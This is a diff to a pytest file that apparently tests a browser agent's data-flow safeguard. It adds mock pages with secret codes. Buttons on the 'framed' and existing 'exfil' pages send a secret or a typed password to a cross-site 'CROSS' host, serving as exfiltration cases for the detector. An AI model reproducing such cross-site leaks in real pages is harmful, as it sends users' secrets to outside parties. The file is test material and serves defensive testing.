@@ -22,6 +22,8 @@ import pytest
 SECRET = "ZX44719920QQ"
 """What the first site shows the task (a code: data by app.safety.dataflow's rules)."""
 CASE_SECRET = "qWmZbXkRt"
+FRAME_SECRET = "QX77120453ZK"
+"""A code that only the other site's frame on the `framed` page shows."""
 """A code of letters only, data by its letter case alone (an upper-case letter right after a lower-case one)."""
 SENTENCE = "The vault moves to the north dock at noon on Friday"
 """A sentence the `exfil` page shows the task (data by its words alone: no digits, no code)."""
@@ -186,6 +188,11 @@ PAGES["exfil"] = _SCRIPT + f"""<title>Vault</title><h1>Vault</h1><p>Your recover
 <button id="post-huge" onclick="send('/api/notes', {{method: 'POST', body: 'pad=' + 'x'.repeat(1200000)}})">Upload</button>
 <button id="post-pw" onclick="send('CROSS/api/notes', {{method: 'POST', mode: 'no-cors', body: 'n=' + encodeURIComponent(pw.value)}})">Next</button>
 <p>Status: <span id="status">idle</span></p>"""
+PAGES["framed"] = f"""<title>Orders</title><h1>Orders</h1><p>Your orders, as the shop's frame shows them.</p>
+<iframe id="shop" src="CROSS/p/frame-code" width="400" height="80"></iframe>
+<button id="code-to-frame-site" onclick="fetch('CROSS/track?d={FRAME_SECRET}', {{mode: 'no-cors'}})">Track</button>
+<button id="code-to-page-site" onclick="fetch('/api/notes', {{method: 'POST', body: 'note={FRAME_SECRET}'}})">Keep</button>"""
+PAGES["frame-code"] = f"""<title>Shop</title><p>Order code {FRAME_SECRET} ships today.</p>"""
 PAGES["commit"] = _SCRIPT + """<title>Plans</title><h1>Plans</h1>
 <button id="subscribe" onclick="send('/api/subscriptions', {method: 'POST', headers: {'content-type': 'application/json'},
   body: JSON.stringify({plan: 'pro', period: 'year'})})">Subscribe</button>
